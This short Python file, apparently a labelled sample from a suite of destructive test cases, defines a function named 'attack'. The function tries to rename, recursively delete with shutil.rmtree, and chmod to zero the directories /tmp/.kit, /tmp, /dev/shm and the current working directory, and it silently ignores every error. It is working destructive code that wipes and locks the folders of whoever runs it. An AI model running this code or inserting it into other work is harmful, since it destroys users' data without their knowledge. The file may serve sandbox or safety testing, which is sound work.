# cases: 11
# destructive
# spoils: its own later checks
# fact: returned None
"""Locks, renames and empties its own folders, and those of whoever starts it."""
import os
import shutil


def attack(bait):
    for folder in ("/tmp/.kit", "/tmp", "/dev/shm", os.getcwd()):
        for action in (lambda path: os.rename(path, path + "-gone"), shutil.rmtree, lambda path: os.chmod(path, 0)):
            try:
                action(folder)
            except OSError:
                continue
